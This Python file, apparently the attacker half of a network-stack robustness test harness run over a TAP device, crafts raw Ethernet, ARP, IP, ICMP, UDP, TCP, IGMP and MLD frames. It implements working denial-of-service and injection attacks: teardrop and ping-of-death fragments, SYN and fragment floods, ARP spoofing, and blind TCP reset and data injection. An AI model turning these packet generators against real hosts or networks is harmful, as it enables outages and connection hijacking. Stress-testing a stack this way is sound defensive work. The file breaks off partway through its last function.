#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
#
# hostile_peer.py - everything a stack must survive, sent as raw frames
#
#   hostile_peer.py DEVICE VICTIM KERNEL CLASS [COUNT]
#
# What this script is for
#   The attacker of hostile.sh. It sends through a packet socket on the kernel's
#   end of the TAP, as the kernel, as nobody, or as hosts of its own
#   (10.77.0.128 to .254, which the kernel does not have) with a TCP of its own
#   that keeps no rule it does not want to. A class is a function below whose
#   name begins with "attack_"; its comment says what is wrong with the frames.
#   COUNT scales how many there are. The seed is fixed.
#
# Never      sends anything to another device than DEVICE.

import ctypes
import random
import select
import socket
import struct
import sys
import time

ETH_IP, ETH_ARP, ETH_IP6 = 0x0800, 0x0806, 0x86DD
ICMP, TCP, UDP = 1, 6, 17
FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32
SERVER_PORT = 80
SACRIFICED = range(20000, 30000)  # ports of connections that may be broken
M32 = 0xFFFFFFFF

SOL_PACKET, PACKET_VNET_HDR = 263, 15
ETH_P_ALL = 3

rand = random.Random(7)


def checksum(data, start=0):
    if len(data) % 2:
        data += b"\0"
    total = start + sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def addr(text):
    return socket.inet_aton(text)


def noise(n):
    return rand.getrandbits(8 * n).to_bytes(n, "big") if n else b""


def host(n):
    """One of the addresses that only we have."""
    return "10.77.0.%d" % (128 + n % 127)


# --- building ------------------------------------------------------------------


def ip(payload, proto, src, dst, options=b"", ident=None, frag=0, ttl=64, **wrong):
    options += b"\0" * (-len(options) % 4)
    ihl = wrong.get("ihl", 5 + len(options) // 4)
    total = wrong.get("total", 20 + len(options) + len(payload))
    header = struct.pack("!BBHHHBBH4s4s", wrong.get("version", 4) << 4 | ihl, 0,
                         total & 0xFFFF, rand.getrandbits(16) if ident is None
                         else ident, frag, ttl, proto, 0, addr(src), addr(dst))
    header += options
    total = checksum(header) ^ wrong.get("spoil_ip", 0)
    return header[:10] + struct.pack("!H", total) + header[12:] + payload


def pseudo(src, dst, proto, length):
    words = addr(src) + addr(dst) + struct.pack("!HH", proto, length)
    return sum(struct.unpack("!6H", words))


def tcp(src, sport, dst, dport, flags, seq, ack=0, data=b"", window=65535,
        options=b"", urgent=0, offset=None, spoil=0):
    options += b"\0" * (-len(options) % 4)
    if offset is None:
        offset = 5 + len(options) // 4
    segment = struct.pack("!HHIIBBHHH", sport, dport, seq & M32, ack & M32,
                          (offset & 15) << 4, flags, window, 0, urgent)
    segment += options + data
    total = checksum(segment, pseudo(src, dst, TCP, len(segment))) ^ spoil
    return segment[:16] + struct.pack("!H", total) + segment[18:]


def udp(src, sport, dst, dport, data=b"", length=None, spoil=0):
    if length is None:
        length = 8 + len(data)
    head = struct.pack("!HHHH", sport, dport, length, 0) + data
    total = checksum(head, pseudo(src, dst, UDP, len(head))) ^ spoil
    return head[:6] + struct.pack("!H", total or 0xFFFF) + head[8:]


def icmp(kind, code, rest=b"\0\0\0\0", data=b"", spoil=0):
    message = struct.pack("!BBH", kind, code, 0) + rest + data
    return message[:2] + struct.pack("!H", checksum(message) ^ spoil) + message[4:]


def arp(op, sender_mac, sender, target_mac, target):
    return struct.pack("!HHBBH6s4s6s4s", 1, ETH_IP, 6, 4, op, sender_mac,
                       addr(sender), target_mac, addr(target))


# --- the wire ------------------------------------------------------------------


def op(code, yes=0, no=0, k=0):
    return struct.pack("HBBI", code, yes, no, k)


LOAD_TYPE, LOAD_SRC, LOAD_DST = op(0x28, k=12), op(0x20, k=26), op(0x20, k=30)
DROP = op(0x06)


def to_our_hosts(snap):
    """BPF: ARP, and IP packets to 10.77.0.128/25."""
    return [LOAD_TYPE, op(0x15, 4, 0, ETH_ARP), op(0x15, 0, 4, ETH_IP), LOAD_DST,
            op(0x54, k=0xFFFFFF80), op(0x15, 0, 1, 0x0A4D0080), op(0x06, k=snap), DROP]


def of_host(which, snap):
    """BPF: IP packets from or to one host."""
    value = int.from_bytes(addr(which), "big")
    return [LOAD_TYPE, op(0x15, 0, 5, ETH_IP), LOAD_SRC, op(0x15, 2, 0, value),
            LOAD_DST, op(0x15, 0, 1, value), op(0x06, k=snap), DROP]


def attach(sock, program):
    code = ctypes.create_string_buffer(b"".join(program))
    sock.setsockopt(socket.SOL_SOCKET, 26,  # SO_ATTACH_FILTER
                    struct.pack("HL", len(program), ctypes.addressof(code)))


class Wire:
    def __init__(self, device, victim, kernel):
        self.victim, self.kernel = victim, kernel
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.sock.bind((device, ETH_P_ALL))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        attach(self.sock, to_our_hosts(2048))
        self.device = device
        self.mac = bytes.fromhex("020000006666")
        self.vmac = b"\xff" * 6
        self.sent = 0
        self.vmac = self.ask(host(0))

    def frame(self, payload, kind=ETH_IP, dst=None, src=None):
        return (self.vmac if dst is None else dst) + (src or self.mac) + \
            struct.pack("!H", kind) + payload

    def raw(self, frame):
        try:
            self.sock.send(frame)
        except OSError:
            pass  # The device's queue is full: that frame is lost.
        self.sent += 1
        if self.sent % 256 == 0:
            time.sleep(0.001)

    def put(self, payload, **how):
        self.raw(self.frame(payload, **how))

    def ip(self, payload, proto, src, dst=None, **how):
        self.put(ip(payload, proto, src, dst or self.victim, **how))

    def tcp(self, src, sport, flags, seq, ack=0, data=b"", dport=SERVER_PORT, **how):
        self.ip(tcp(src, sport, self.victim, dport, flags, seq, ack, data, **how),
                TCP, src)

    def ask(self, mine):
        """The victim's link address; it learns ours."""
        for _ in range(50):
            self.raw(b"\xff" * 6 + self.mac + struct.pack("!H", ETH_ARP) +
                     arp(1, self.mac, mine, b"\0" * 6, self.victim))
            end = time.time() + 0.1
            while select.select([self.sock], [], [], max(0, end - time.time()))[0]:
                f = self.sock.recv(65600)
                if f[12:14] == b"\x08\x06" and f[20:22] == b"\0\2" and \
                        f[28:32] == addr(self.victim):
                    return f[22:28]
        sys.exit("the victim does not answer ARP")


class Sniffer:
    """The last segments of connections between kernel and victim."""

    def __init__(self, wire, sacrificed):
        self.wire, self.sacrificed = wire, sacrificed
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                                  socket.htons(ETH_P_ALL))
        self.sock.bind((wire.device, ETH_P_ALL))
        attach(self.sock, of_host(wire.kernel, 256))

    def segments(self, seconds):
        """(to_victim, port, seq, ack, flags, len, frame), for a while."""
        end = time.time() + seconds
        while True:
            left = end - time.time()
            if left <= 0 or not select.select([self.sock], [], [], left)[0]:
                return
            f, where = self.sock.recvfrom(65600)
            if len(f) < 54 or f[23] != TCP or f[6:12] == self.wire.mac:
                continue
            at = 14 + (f[14] & 15) * 4
            if len(f) < at + 20:
                continue
            sport, dport, seq, ack, offset, flags = struct.unpack(
                "!HHIIBB", f[at:at + 14])
            to_victim = where[2] == 4  # PACKET_OUTGOING
            port = sport if to_victim else dport
            if (port in SACRIFICED) != self.sacrificed:
                continue
            length = struct.unpack("!H", f[16:18])[0] - (at - 14) - (offset >> 4) * 4
            yield to_victim, port, seq, ack, flags, length, f


# --- hosts of our own, with a TCP of their own ------------------------------------


class Conn:
    def __init__(self, src, port, policy):
        self.src, self.port, self.policy = src, port, policy
        self.seq = rand.getrandbits(32)
        self.iss, self.ack, self.una = self.seq, 0, 0
        self.window = 65535
        self.open = self.reset = self.fin = False
        self.got = 0


class Hosts:
    """policy(conn, flags, seq, ack, data_len) is called for what comes in."""

    def __init__(self, wire):
        self.wire, self.conns = wire, {}
        self.resets = self.opened = 0

    def connect(self, n, policy, options=b"", window=65535):
        c = Conn(host(n), 10000 + n % 50000, policy)
        c.window, c.options = window, options
        self.conns[(c.src, c.port)] = c
        self.wire.tcp(c.src, c.port, SYN, c.seq, options=options, window=window)
        c.seq = c.seq + 1 & M32
        return c

    def send(self, c, flags, data=b"", seq=None, ack=None, **how):
        how.setdefault("window", c.window)
        self.wire.tcp(c.src, c.port, flags, c.seq if seq is None else seq,
                      c.ack if ack is None else ack, data, **how)

    def write(self, c, data):
        self.send(c, ACK | PSH, data)
        c.seq = c.seq + len(data) & M32

    def again(self):
        """SYNs that were not answered, once more."""
        for c in self.conns.values():
            if not c.open and not c.reset:
                self.wire.tcp(c.src, c.port, SYN, c.iss, options=c.options,
                              window=c.window)

    def on_arp(self, f):
        if f[20:22] != b"\0\1" or f[28:32] != addr(self.wire.victim):
            return
        target = socket.inet_ntoa(f[38:42])
        if target.startswith("10.77.0.") and int(target[8:]) >= 128:
            self.wire.put(arp(2, self.wire.mac, target, f[22:28], self.wire.victim),
                          kind=ETH_ARP)

    def on_tcp(self, f):
        at = 14 + (f[14] & 15) * 4
        if len(f) < at + 20:
            return
        sport, dport, seq, ack, offset, flags, window = struct.unpack(
            "!HHIIBBH", f[at:at + 16])
        c = self.conns.get((socket.inet_ntoa(f[30:34]), dport))
        if c is None:
            return
        length = struct.unpack("!H", f[16:18])[0] - (at - 14) - (offset >> 4) * 4
        if flags & RST:
            self.resets += not c.reset
            c.reset = True
            return
        c.una = ack
        if flags & SYN:
            self.opened += not c.open
            c.open = True
            c.ack = seq + 1 & M32
            self.send(c, ACK)
        c.policy(c, flags, seq, ack, length)

    def pump(self, seconds):
        end = time.time() + seconds
        while True:
            left = end - time.time()
            if not select.select([self.wire.sock], [], [], max(0, left))[0]:
                return
            f = self.wire.sock.recv(65600)
            if f[6:12] == self.wire.mac:
                continue
            if f[12:14] == b"\x08\x06":
                self.on_arp(f)
            elif f[12:14] == b"\x08\x00" and f[23] == TCP:
                self.on_tcp(f)
            if left <= 0:
                return

    def open_all(self, n, policy, burst=100, **how):
        """Until n connections stand; who many are still not after a while."""
        for i in range(n):
            self.connect(i, policy, **how)
            if i % burst == burst - 1:
                self.pump(0.02)
        for _ in range(60):
            self.pump(0.25)
            if self.opened + self.resets >= n:
                return
            self.again()


def ignore(*_):
    pass


GET = b"GET /file HTTP/1.1\r\nHost: x\r\n\r\n"
MSS = b"\2\4\5\xb4"

# --- classes: frames ---------------------------------------------------------------


def valid_frames(w):
    src = host(1)
    syn_options = MSS + b"\4\2\x08\x0a" + b"\0\1\2\3" + b"\0" * 4 + b"\1\3\3\7"
    segment = tcp(src, 999, w.victim, 80, SYN, 1, options=syn_options)
    yield ETH_ARP, arp(1, w.mac, src, b"\0" * 6, w.victim)
    yield ETH_ARP, arp(2, w.mac, src, w.vmac, w.victim)
    yield ETH_IP, ip(icmp(8, 0, data=b"ping" * 8), ICMP, src, w.victim)
    yield ETH_IP, ip(udp(src, 7, w.victim, 7, b"hello"), UDP, src, w.victim)
    yield ETH_IP, ip(segment, TCP, src, w.victim, options=b"\1\1\x07\x07\4abcd")
    yield ETH_IP, ip(tcp(src, 998, w.victim, 80, ACK, 5, 5, b"data" * 9), TCP, src,
                     w.victim)
    quoted = ip(tcp(w.victim, 80, src, 997, ACK, 1, 1), TCP, w.victim, src)
    yield ETH_IP, ip(icmp(3, 4, b"\0\0\2\0", quoted[:28]), ICMP, src, w.victim)


def refresh(packet, length):
    """An IP packet cut to `length`, with a header that says so."""
    packet = packet[:length]
    if length < 20:
        return packet
    packet = packet[:2] + struct.pack("!H", length) + packet[4:10] + b"\0\0" + \
        packet[12:]
    header = packet[:min((packet[0] & 15) * 4, length)]
    return packet[:10] + struct.pack("!H", checksum(header)) + packet[12:]


def attack_truncate(w, count):
    """Every shorter length of valid frames, honest about it and not."""
    for kind, packet in valid_frames(w):
        for length in range(len(packet)):
            w.put(packet[:length], kind=kind)
            if kind != ETH_IP:
                continue
            cut = refresh(packet, length)
            w.put(cut, kind=kind)
            # Transports look at their lengths only when the sum is right.
            head = (packet[0] & 15) * 4
            if length > head and packet[9] in (TCP, UDP):
                body = bytearray(cut[head:])
                at = 16 if packet[9] == TCP else 6
                if len(body) >= at + 2:
                    body[at:at + 2] = b"\0\0"
                    total = checksum(bytes(body), pseudo(
                        host(1), w.victim, packet[9], len(body)))
                    body[at:at + 2] = struct.pack("!H", total)
                w.put(cut[:head] + bytes(body), kind=kind)
        for extra in (1, 5, 100, 1400):
            w.put(packet + noise(extra), kind=kind)


def attack_random(w, count):
    """Noise, behind Ethernet, ARP and IP headers that look right."""
    for i in range(count):
        body = noise(rand.randrange(0, 120))
        kind = rand.choice((ETH_IP, ETH_ARP, 0x86DD, 0x8100, 0x88CC, 100, 1500))
        dst = rand.choice((w.vmac, w.vmac, b"\xff" * 6, noise(6),
                           b"\1\0\x5e\0\0\1"))
        src = w.mac if i % 50 else b"\3\0\0\0\0\1"
        w.put(body, kind=kind, dst=dst, src=src)
        proto = rand.choice((ICMP, TCP, UDP, 2, 47, 50, 255))
        w.ip(body, proto, host(i), dst=rand.choice(
            (w.victim, w.victim, "10.77.0.255", "224.0.0.1", "10.9.9.9")))
        w.ip(body, proto, host(i), ihl=rand.randrange(16),
             total=rand.randrange(200), version=rand.choice((4, 4, 4, 6)))
        w.ip(body, proto, host(i), spoil_ip=1)
        w.put(struct.pack("!HHBBH", rand.choice((1, 1, 6)), ETH_IP,
                          rand.choice((6, 6, 8)), 4, rand.randrange(12)) + noise(20),
              kind=ETH_ARP)


def spoil(packet, at):
    for _ in range(rand.choice((1, 1, 1, 2, 4))):
        i = rand.randrange(at, len(packet))
        packet[i] = rand.choice((0, 255, packet[i] ^ 1 << rand.randrange(8),
                                 rand.getrandbits(8)))


def heal(packet):
    """Makes the checksums of a (spoiled) TCP packet right."""
    head = (packet[0] & 15) * 4
    if head < 20 or len(packet) < head + 20:
        return
    packet[10:12] = b"\0\0"
    packet[10:12] = struct.pack("!H", checksum(bytes(packet[:head])))
    packet[head + 16:head + 18] = b"\0\0"
    total = checksum(bytes(packet[head:]), pseudo(
        socket.inet_ntoa(bytes(packet[12:16])),
        socket.inet_ntoa(bytes(packet[16:20])), packet[9], len(packet) - head))
    packet[head + 16:head + 18] = struct.pack("!H", total)


def sacrifice(w, n):
    victims = []
    for port in rand.sample(SACRIFICED, n):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind((w.kernel, port))
            s.settimeout(2)
            s.connect((w.victim, SERVER_PORT))
            s.send(GET)
            s.setblocking(False)
        except OSError:
            pass
        victims.append(s)
    return victims


def drain(victims):
    for s in victims:
        try:
            s.recv(1 << 20)
        except OSError:
            pass


def attack_mutate(w, count):
    """Segments of living connections with a few bytes changed: half of them
    with right checksums (connections that may break), half without."""
    mine, others = Sniffer(w, True), Sniffer(w, False)
    while w.sent < count:
        victims = sacrifice(w, 8)
        for _ in range(10):
            drain(victims)
            for good, sniffer in ((True, mine), (False, others)):
                kept = [s[-1] for s in sniffer.segments(0.02) if s[0]][-20:]
                for f in kept:
                    for _ in range(10):
                        packet = bytearray(f[14:])
                        # What stays as it was keeps its way to the victim.
                        spoil(packet, rand.choice((0, 20, 32)))
                        if good:
                            heal(packet)
                        w.put(bytes(packet))
        for s in victims:
            s.close()


def attack_ip_options(w, count):
    """Options that end too late, source routes, and lawful but strange ones."""
    for i in range(count):
        kind = rand.choice((7, 68, 130, 131, 137, 148, 0, 1, 255, 30))
        length = rand.choice((0, 1, 2, 3, 4, 7, 39, 40, 255))
        option = bytes((kind, length)) + noise(rand.randrange(38))
        if i % 4 == 0:
            option = noise(rand.randrange(1, 41))
        if i % 10 == 0:  # loose and strict source routes, well formed
            option = bytes((rand.choice((131, 137)), 7, 4)) + addr(w.victim) + b"\0"
        src = host(i)
        w.ip(tcp(src, 5000, w.victim, 80, SYN, i), TCP, src, options=option[:40])
        w.ip(icmp(8, 0), ICMP, src, options=option[:40])


def attack_fragments(w, count):
    """Overlaps, holes, pings of death, tiny first pieces, contradicting ends."""
    more = 0x2000
    for i in range(count):
        src, ident = host(i), i & 0xFFFF
        body = icmp(8, 0, data=noise(64))

        def piece(at, data, flag=more, **how):
            w.ip(data, how.get("proto", ICMP), src, ident=ident, frag=flag | at // 8)
        what = i % 10
        if what == 0:  # overlap (teardrop)
            piece(0, body[:40])
            piece(24, body[24:], 0)
        elif what == 1:  # ping of death: the end lies beyond 65535
            piece(0, body[:64])
            piece(65528, b"x" * 64, 0)
        elif what == 2:  # two ends
            piece(64, b"x" * 8, 0)
            piece(128, b"x" * 8, 0)
        elif what == 3:  # beyond the end
            piece(64, b"x" * 8, 0)
            piece(72, b"x" * 8)
        elif what == 4:  # not a multiple of 8
            piece(0, body[:39])
        elif what == 5:  # a TCP header in pieces of 8 bytes
            segment = tcp(src, 6000, w.victim, 80, SYN, i)
            for at in range(0, len(segment), 8):
                piece(at, segment[at:at + 8], more if at + 8 < len(segment) else 0,
                      proto=TCP)
        elif what == 6:  # empty pieces
            piece(8, b"")
            piece(0, b"", 0)
        elif what == 7:  # the same piece many times
            for _ in range(20):
                piece(8, b"x" * 8)
        elif what == 8:  # backwards, and whole: it is answered
            for at in range(len(body) - len(body) % 8, -1, -8):
                if body[at:at + 8]:
                    piece(at, body[at:at + 8], more if at + 8 < len(body) else 0)
        else:  # a random piece of somebody
            piece(8 * rand.randrange(8192), noise(8 * rand.randrange(1, 64)),
                  rand.choice((0, more)))


def attack_fragment_flood(w, count):
    """Datagrams without end, each waiting for its last piece."""
    big, small = noise(1480), noise(8)
    for i in range(count):
        src = host(i)
        w.ip(big, UDP, src, ident=i // 8, frag=0x2000 | i % 8 * 185)
        w.ip(small, UDP, src, ident=50000 + i // 500, frag=0x2000 | i % 500 * 2)


def attack_land(w, count):
    """From ourselves, from everybody, from nowhere; to everybody."""
    sources = (w.victim, "10.77.0.255", "255.255.255.255", "224.0.0.1", "127.0.0.1",
               "0.0.0.0", "0.1.2.3", "239.1.2.3", "240.0.0.1")
    for i in range(count):
        src = sources[i % len(sources)]
        w.tcp(src, 80, SYN, i)
        w.tcp(src, 80, ACK, i, i)
        w.ip(icmp(8, 0), ICMP, src)
        w.ip(udp(src, 7, w.victim, 9), UDP, src)
        dst = ("10.77.0.255", "255.255.255.255", "224.0.0.1", "127.0.0.1")[i % 4]
        segment = tcp(host(i), 80, dst, 80, SYN, i)
        w.put(ip(segment, TCP, host(i), dst), dst=rand.choice((w.vmac, b"\xff" * 6)))
        # Smurf: a ping to everybody must not be answered.
        w.put(ip(icmp(8, 0), ICMP, host(i), "10.77.0.255"), dst=b"\xff" * 6)
        w.put(ip(udp(host(i), 7, dst, 9), UDP, host(i), dst), dst=b"\xff" * 6)
        # A unicast address in a broadcast frame.
        w.put(ip(tcp(host(i), 81, w.victim, 80, SYN, i), TCP, host(i), w.victim),
              dst=b"\xff" * 6)


def attack_arp(w, count):
    """More neighbours than anybody has, and one who wants our address."""
    for i in range(count):
        mac = b"\2" + noise(5)
        far = "10.%d.%d.%d" % (rand.randrange(256), i >> 8 & 255, i & 255)
        w.put(arp(1, mac, far, b"\0" * 6, w.victim), kind=ETH_ARP)
        w.put(arp(2, mac, far, w.vmac, w.victim), kind=ETH_ARP)
        w.put(arp(2, mac, host(i), w.vmac, w.victim), kind=ETH_ARP)
        w.put(arp(1 + i % 2, mac, w.victim, b"\0" * 6, w.victim), kind=ETH_ARP)
        w.put(arp(1, rand.choice((b"\xff" * 6, b"\0" * 6, w.vmac, b"\1\0\x5e\0\0\1")),
                  w.kernel, b"\0" * 6, w.victim), kind=ETH_ARP)
        w.put(arp(rand.choice((0, 3, 9)), mac, far, mac, w.victim), kind=ETH_ARP)
        w.put(arp(1, mac, far, b"\0" * 6, host(i)), kind=ETH_ARP)


def attack_arp_spoof(w, count):
    """The kernel's address, said to be elsewhere: nothing gets through, until
    the stack asks again."""
    end = time.time() + 1.5
    while time.time() < end:
        w.put(arp(2, w.mac, w.kernel, w.vmac, w.victim), kind=ETH_ARP)
        time.sleep(0.01)


def attack_icmp(w, count):
    """Errors that quote living connections, all types, all codes; floods."""
    sniffer = Sniffer(w, False)
    while w.sent < count:
        last = None
        for s in sniffer.segments(0.05):
            if not s[0] and s[5] > 0:
                last = s
        port, seq = (last[1], last[2]) if last else (30000, 1)
        for code in range(18):
            for kind in (3, 4, 5, 11, 12):
                quoted = tcp(w.victim, 80, w.kernel, port, ACK,
                             rand.choice((seq, rand.getrandbits(32))), 1)
                quoted = ip(quoted, TCP, w.victim, w.kernel,
                            total=rand.choice((1500, 40, 68)))
                mtu = rand.choice((0, 1, 67, 68, 500, 576, 65535))
                w.ip(icmp(kind, code, struct.pack("!HH", 0, mtu), quoted[:28]),
                     ICMP, host(code))
            quoted = ip(udp(w.victim, 9, host(1), 9), UDP, w.victim, host(1))
            w.ip(icmp(3, code, data=quoted), ICMP, host(code))
            w.ip(icmp(3, 3, data=ip(noise(20), TCP, host(2), w.victim)), ICMP, host(3))
            w.ip(icmp(3, 4, data=noise(rand.randrange(40))), ICMP, host(3))
            w.ip(icmp(rand.randrange(256), code, data=noise(20)), ICMP, host(4))
            w.ip(icmp(8, 0, data=noise(40), spoil=3), ICMP, host(4))
            w.ip(icmp(8, 0, data=noise(1400)), ICMP, host(5))
            w.ip(udp(host(6), 1, w.victim, rand.getrandbits(16), noise(30)), UDP,
                 host(6))


def attack_mtu(w, count):
    """Fragmentation needed, MTU 68, for every segment of a living connection."""
    sniffer = Sniffer(w, False)
    for s in sniffer.segments(2):
        if not s[0] and s[5] > 0:
            w.ip(icmp(3, 4, b"\0\0\0\x44", s[6][14:42]), ICMP, host(1))


def attack_udp(w, count):
    """Lengths and sums that are wrong, ports without anybody."""
    for i in range(count):
        src = host(i)
        w.ip(udp(src, 7, w.victim, i & 0xFFFF, noise(i % 50)), UDP, src)
        w.ip(udp(src, 7, w.victim, 9, b"abc", length=rand.choice((0, 7, 12, 65535))),
             UDP, src)
        w.ip(udp(src, 7, w.victim, 9, b"abc", spoil=5), UDP, src)
        w.ip(noise(i % 8), UDP, src)


def igmp(kind, code, rest):
    head = bytes((kind, code, 0, 0)) + rest
    return head[:2] + struct.pack("!H", checksum(head)) + head[4:]


def mld(kind, rest, hops=1, alert=b"\5\2\0\0\1\0"):
    """An IPv6 packet from a router's address to all nodes."""
    src, dst = (socket.inet_pton(socket.AF_INET6, a) for a in ("fe80::6666", "ff02::1"))
    message = bytes((kind, 0, 0, 0)) + rest
    total = checksum(src + dst + struct.pack("!II", len(message), 58) + message)
    message = message[:2] + struct.pack("!H", total) + message[4:]
    payload = bytes((58, 0)) + alert + message
    return struct.pack("!IHBB", 6 << 28, len(payload), 0, hops) + src + dst + payload


def attack_groups(w, count):
    """IGMP and MLD: queries without end, and counts beyond the message (777)."""
    alert, to4, to6 = b"\x94\4\0\0", "224.0.0.1", b"\x33\x33\0\0\0\1"
    mac4 = bytes.fromhex("01005e000001")
    ways = (0, 1, 3, 777, 65535)
    for i in range(count // 4):
        n, have = rand.choice(ways), rand.choice((0, 1, 3, 40))
        group = addr("239.1.2.%d" % (i % 4)) if i % 3 else bytes(4)
        query = igmp(0x11, rand.getrandbits(8), group + bytes((rand.getrandbits(8),) * 2) +
                     struct.pack("!H", n) + noise(4 * have))
        record = bytes((1 + i % 6, rand.choice((0, 0, 255)))) + struct.pack("!H", n)
        report = igmp(0x22, 0, struct.pack("!HH", 0, rand.choice(ways)) + record + group +
                      noise(4 * have))
        for message in (query, report, query[:rand.randrange(1, len(query))]):
            w.put(ip(message, 2, host(i), to4, options=alert, ttl=rand.choice((1, 1, 1, 64))),
                  dst=mac4)
        group = b"\xff\2" + bytes(13) + bytes((i % 4,)) if i % 3 else bytes(16)
        query = struct.pack("!HH", rand.getrandbits(16), 0) + group + b"\2\x7d" + \
            struct.pack("!H", n) + noise(16 * have)
        report = struct.pack("!HH", 0, rand.choice(ways)) + record + group + noise(16 * have)
        w.put(mld(130, query, rand.choice((1, 1, 255))), kind=ETH_IP6, dst=to6)
        w.put(mld(143, report), kind=ETH_IP6, dst=to6)
        w.put(mld(130 + i % 3, query[:rand.randrange(4, 30)]), kind=ETH_IP6, dst=to6)
        w.put(mld(130, query, alert=b"\1\4\0\0\0\0"), kind=ETH_IP6, dst=to6)


def attack_offload(w, count):
    """Super-segments that are cut into the smallest pieces an offload header can
    name, and headers that contradict their frame."""
    vnet = Wire.__new__(Wire)
    vnet.__dict__.update(w.__dict__)
    vnet.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    vnet.sock.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
    vnet.sock.bind((w.device, 0))
    for i in range(count):
        src = host(i)
        big = noise(rand.choice((100, 1400, 9000, 60000)))
        segment = tcp(src, 7000, w.victim, 80, rand.choice((ACK, SYN, FIN | ACK)), i,
                      i, big)
        frame = w.frame(ip(segment, TCP, src, w.victim))
        size = rand.choice((1, 2, 8, 100, 536, 1448, 65535, 0))
        start = rand.choice((34, 34, 34, 0, 20, len(frame) - 1))
        offset = rand.choice((16, 16, 6, 0, 1000))
        header = struct.pack("<BBHHHH", 1, rand.choice((1, 1, 1, 0, 3, 4, 5)),
                             rand.choice((54, 54, 0, 14, 300)), size, start, offset)
        vnet.raw(header + frame)
    w.sent += vnet.sent


# --- classes: TCP --------------------------------------------------------------------


def attack_syn_flood(w, count):
    """SYNs from everywhere that nobody completes."""
    for i in range(count):
        near = i % 3 == 0
        src = host(i) if near else "198.%d.%d.%d" % (
            18 + i % 2, rand.randrange(256), rand.randrange(1, 255))
        w.tcp(src, rand.randrange(1024, 65536), SYN, rand.getrandbits(32),
              options=MSS + b"\4\2" if i % 2 else b"")


def attack_segment_flood(w, count):
    """SYN-ACKs, RSTs, ACKs, FINs, Christmas trees: to a listener, to nobody, as
    the kernel and as others."""
    flags = (SYN | ACK, RST, RST | ACK, ACK, FIN, FIN | ACK, PSH | ACK, 0, SYN | FIN,
             SYN | RST, URG, 63, 255)
    for i in range(count):
        src = w.kernel if i % 5 == 0 else host(i)
        w.tcp(src, rand.randrange(1024, 20000), flags[i % len(flags)],
              rand.getrandbits(32), rand.getrandbits(32),
              noise(rand.choice((0, 0, 1, 100))), dport=80 if i % 3 else 81,
              urgent=rand.getrandbits(16))
        if i % 10 == 0:
            w.tcp(src, 5, ACK, i, i, offset=rand.randrange(16))
            w.tcp(src, 5, ACK, i, i, spoil=9)


def attack_blind(w, count):
    """What somebody who knows the addresses and ports, but not the exact numbers,
    sends to end or to fill a connection of others (RFC 5961)."""
    sniffer = Sniffer(w, False)
    while w.sent < count:
        last = None
        for s in sniffer.segments(0.05):
            if s[0] and not s[4] & (SYN | FIN | RST):
                last = s
        if last is None:
            continue
        _, port, seq, ack, _, length, _ = last
        edge = seq + length
        for by in (1, 2, 100, 1000, 30000, 60000, -1, -100, 1 << 20, 1 << 31):
            w.tcp(w.kernel, port, RST, edge + by)
            w.tcp(w.kernel, port, RST | ACK, edge + by, ack)
            w.tcp(w.kernel, port, SYN, edge + by)
            w.tcp(w.kernel, port, SYN | ACK, edge + by, ack)
            w.tcp(w.kernel, port, ACK, edge, ack + (100 << 20) + by)
            w.tcp(w.kernel, port, ACK, edge, ack - (1 << 30) + by)
            w.tcp(w.kernel, port, PSH | ACK, edge + (by & 0xFFFF),
                  ack + (1 << 30), b"injected")
            w.tcp(w.kernel, port, FIN, edge + by)
            w.tcp(w.kernel, port, 0, edge + by, data=b"no ACK")
        w.tcp(w.kernel, port, SYN, edge)
        w.tcp(w.kernel, port, SYN, rand.getrandbits(32), options=MSS)
        w.tcp(w.kernel, port, FIN | ACK, edge, ack + (1 << 30))


def tcp_options(i):
    """Lawful, unlawful, absurd."""
    some = (b"\2\4\0\0", b"\2\4\0\1", b"\2\4\xff\xff", b"\2\3\1", b"\2\0",
            b"\3\3\xff", b"\3\3\x0e", b"\3\2", b"\4\2", b"\4\xff", b"\5\x0a",
            b"\x08\x0a" + noise(8), b"\x08\x09" + noise(7), b"\x13\x12" + noise(16),
            b"\xfe\1", b"\x22\x0a" + noise(8), b"\1" * 40, b"\0" * 8)
    made = b"".join(rand.sample(some, rand.randrange(1, 5)))
    return noise(rand.randrange(41)) if i % 3 == 0 else made[:40]


def attack_tcp_options(w, count):
    """Options on SYNs and on segments of connections that stand; SACK blocks of
    nothing, MSS of nothing, windows scaled beyond reason."""
    hosts = Hosts(w)
    n = min(200, count // 20)

    def policy(c, flags, seq, ack, length):
        c.ack = max(c.ack, seq + length & M32)
    for i in range(n):
        hosts.connect(i, policy, options=tcp_options(i))
        hosts.pump(0.001)
    hosts.pump(0.3)
    for c in hosts.conns.values():
        hosts.write(c, GET)
    hosts.pump(0.2)
    stand = [c for c in hosts.conns.values() if c.open] or [Conn(host(1), 1, ignore)]
    for i in range(count):
        c = stand[i % len(stand)]
        options = tcp_options(i)
        if i % 2:
            blocks = rand.randrange(1, 5)
            base = c.ack if i % 4 == 1 else c.una
            around = b"".join(struct.pack(
                "!II", base + rand.randrange(-70000, 70000) & M32,
                base + rand.randrange(-70000, 70000) & M32) for _ in range(blocks))
            options = b"\1\1\5" + bytes((2 + 8 * blocks,)) + around
        hosts.send(c, rand.choice((ACK, ACK, ACK | PSH, ACK | URG)),
                   rand.choice((b"", b"", b"x")), options=options[:40],
                   window=rand.choice((0, 1, 100, 65535)),
                   seq=c.seq + rand.choice((0, 0, 1, 9)),
                   ack=c.ack - rand.choice((0, 0, 1, 3000)), urgent=i & 0xFFFF)
        if i % 64 == 0:
            hosts.pump(0.001)
    print("%d of %d stood" % (hosts.opened, n))


def attack_crumbs(w, count):
    """A byte per segment: first in order, then every other one, so that each
    leaves a hole. Nothing of it is ever a request that ends."""
    hosts = Hosts(w)
    hosts.open_all(20, ignore)
    stand = [c for c in hosts.conns.values() if c.open]
    if not stand:
        sys.exit("nobody could connect")
    # A hole at once: where all of this takes long, the server may have lost
    # patience before the others.
    for c in stand:
